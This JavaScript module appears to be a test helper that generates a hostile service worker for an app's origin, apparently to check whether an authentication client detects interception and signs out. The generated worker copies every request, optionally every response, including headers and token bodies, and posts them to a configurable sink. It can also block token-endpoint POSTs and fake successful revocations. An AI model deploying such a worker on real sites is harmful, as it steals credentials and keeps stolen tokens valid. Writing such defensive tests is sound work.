// A service worker that somebody plants into the app's origin: it looks at every request and hands it on.

import { events } from "./calls.mjs";

const SCRIPT = "text/javascript; charset=utf-8";

/** What it does with requests, by name. Each is the body of a `fetch` handler that has `event`, `url` and `note(text)`. */
const manners = {
  // Requests go on as if nobody was there.
  looks: "note(await read(event.request));",
  // The answers are read as well.
  answers: `event.respondWith((async () => {
    note(await read(event.request));
    const response = await fetch(event.request);
    note(await response.clone().text().catch(() => ""));
    return response;
  })());`,
  // The token endpoint gets nothing: the code or token in the request stays good.
  withholds: `if (event.request.method === "POST") event.respondWith((async () => {
    note(await read(event.request));
    return Response.error();
  })());`,
  // A revocation seems to have gone well.
  swallows: `if (url.pathname.endsWith("/revocation")) event.respondWith((async () => {
    note(await read(event.request));
    return new Response("", { headers: { "access-control-allow-origin": "*" } });
  })());`,
};

/** A file for the app's server. It reports what it sees to `sink`, and claims what runs already when it is told to or as it starts. */
export const serviceWorker = ({ manner = "looks", sink, claims = true }) => [
  SCRIPT,
  `
  const note = (text) => void nativeFetch(${JSON.stringify(sink)}, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
  const nativeFetch = fetch;
  async function read(request) {
    const body = await request.clone().text().catch(() => "");
    return [request.method, request.url, JSON.stringify([...request.headers]), body].join("\\n");
  }
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => ${claims} && event.waitUntil(clients.claim()));
  addEventListener("message", (event) => event.data === "claim" && event.waitUntil(clients.claim().then(() => event.source.postMessage("claimed"))));
  addEventListener("fetch", (event) => {
    const url = new URL(event.request.url);
    if (url.href === ${JSON.stringify(sink)}) return;
    ${manners[manner].includes("respondWith") ? manners[manner] : `(async () => { ${manners[manner]} })();`}
  });
`,
];

/** Runs in a page: registers the script for `scope` and resolves when it is active, or to the name of the refusal. */
export async function register({ url, scope }) {
  try {
    const registration = await navigator.serviceWorker.register(url, { scope });
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    if (worker.state !== "activated") {
      await new Promise((resolve) => worker.addEventListener("statechange", () => worker.state === "activated" && resolve()));
    }
    return "activated";
  } catch (error) {
    return error.name;
  }
}

/** Whether the session is over because of one. */
export const isIntercepted = async (page) => (await events(page, "signedout")).some(({ detail }) => detail.reason === "intercepted");
